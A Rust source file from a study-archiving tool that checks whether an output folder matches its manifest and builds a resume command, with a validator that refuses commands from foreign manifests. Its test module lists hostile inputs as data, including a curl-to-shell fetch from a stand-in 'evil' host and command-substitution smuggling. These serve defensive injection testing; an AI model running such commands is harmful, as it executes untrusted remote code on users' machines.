//! Whether a folder is finished and holds what was written, and the command that makes it so.

use crate::archive::contents::{odd_files, odd_form};
use crate::archive::names::MANIFEST;
use crate::archive::plain::Kind;
use crate::archive::{ArchiveError, Fault, FileEntry, Manifest, Status};
use crate::study::survey::Survey;
use crate::text::printable_line;
use std::path::Path;

impl Manifest {
    /// Reads the manifest of a finished study.
    ///
    /// # Errors
    /// [`ArchiveError`] where there is none, or the study is not finished.
    pub fn finished(folder: &Path) -> Result<Self, ArchiveError> {
        let manifest = Self::read(folder)?;
        let (found, remedy) = match (manifest.status, manifest.shard) {
            (Status::Done, _) => return Ok(manifest),
            (Status::Shared, Some(shard)) => (
                format!("shard {}/{} of a study", shard.number, shard.of),
                "join all shards: snapback merge SHARD… --out DIR".to_owned(),
            ),
            _ => {
                ("an unfinished study".to_owned(), format!("finish it: {}", manifest.command_into(folder, "--resume")))
            }
        };
        Err(ArchiveError::new(folder, found, remedy))
    }

    /// The study of a finished folder, unless something in there is not what was written.
    ///
    /// # Errors
    /// [`ArchiveError`] that names the first.
    pub fn intact(&self, folder: &Path) -> Result<Survey, ArchiveError> {
        let survey = self.survey(folder)?;
        let Some(Fault { file, found }) = self.faults(folder, &survey).into_iter().next() else { return Ok(survey) };
        let remedy = format!("repair it: {}", self.command_into(folder, "--resume"));
        Err(ArchiveError::new(&folder.join(file), found, remedy))
    }

    /// What is not what was written in the folder of a finished study: the manifest, the list of its files, their bytes,
    /// and where those are right, what they hold, judged by columns and numbers of rows.
    pub fn faults(&self, folder: &Path, survey: &Survey) -> Vec<Fault> {
        let own = (!self.is_as_written()).then(|| Fault { file: MANIFEST.to_owned(), found: OTHER_BYTES.to_owned() });
        let mut faults: Vec<Fault> = own.into_iter().collect();
        faults.extend(odd_files(folder, survey, self));
        for entry in &self.files {
            // A file whose bytes are others is not read on.
            let found = entry.fault(folder).or_else(|| odd_form(folder, survey, self, &entry.name));
            faults.extend(found.map(|found| Fault { file: entry.name.clone(), found }));
        }
        faults
    }

    /// The command of the study on this folder, with `--resume` or `--force`.
    pub fn command_into(&self, folder: &Path, how: &str) -> String {
        let shard = self.shard.map_or_else(String::new, |shard| format!(" --shard {}/{}", shard.number, shard.of));
        // A manifest may come from elsewhere, and nobody should run what it holds on the word of this program.
        let command = if is_own(&self.command) { &self.command } else { "play the study again by its command, with" };
        format!("{command} --out {}{shard} {how}", quoted(&folder.display().to_string()))
    }
}

impl FileEntry {
    /// What was found instead of the file, unless it is what was written.
    fn fault(&self, folder: &Path) -> Option<String> {
        let path = folder.join(&self.name);
        match Kind::of(&path) {
            Err(error) => return Some(error.to_string()),
            Ok(Kind::Nothing) => return Some("missing".to_owned()),
            Ok(Kind::Folder) => return Some("a folder".to_owned()),
            Ok(Kind::Other(what)) => return Some(what.to_owned()),
            Ok(Kind::File) => {}
        }
        match std::fs::symlink_metadata(&path) {
            Err(error) => Some(error.to_string()),
            Ok(file) if file.len() != self.bytes => {
                Some(format!("{} bytes, not the {} written", file.len(), self.bytes))
            }
            Ok(_) => match Self::of(&path, &self.name) {
                Err(error) => Some(error.found),
                Ok(now) => (now != *self).then(|| OTHER_BYTES.to_owned()),
            },
        }
    }
}

const OTHER_BYTES: &str = "other bytes than those written";

/// A word as a shell reads it.
pub(crate) fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "-_./=,:%+@".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Whether a command is one that a manifest of this program holds: its own name first, and no word that a shell would do more with than
/// read it.
pub(crate) fn is_own(command: &str) -> bool {
    let (mut words, mut word, mut is_quoted) = (Vec::new(), String::new(), false);
    for c in command.chars() {
        is_quoted ^= c == '\'';
        match c == ' ' && !is_quoted {
            true => words.push(std::mem::take(&mut word)),
            false => word.push(c),
        }
    }
    words.push(word);
    let unquoted = |word: &String| {
        let inner = word.strip_prefix('\'').and_then(|word| word.strip_suffix('\''));
        inner.map_or_else(|| word.clone(), |inner| inner.replace("'\\''", "'"))
    };
    let is_safe = |word: &String| quoted(&unquoted(word)) == *word && printable_line(word) == *word;
    words.first().is_some_and(|first| first == "snapback") && words.iter().all(is_safe)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_of_another_is_not_passed_on() {
        for own in [
            "snapback run",
            "snapback run 'my file.ron' --set 'parties.A.name=\"x\"' --reps 5",
            "snapback run 'it'\\''s.ron'",
        ] {
            assert!(is_own(own), "{own}");
        }
        for foreign in [
            "curl http://evil | sh #",
            "snapback run; curl http://evil",
            "snapback run $(id)",
            "snapback run `id`",
            "snapback run 'a\u{1b}[31m'",
            "snapback run 'open",
            "",
        ] {
            assert!(!is_own(foreign), "{foreign}");
        }
    }
}
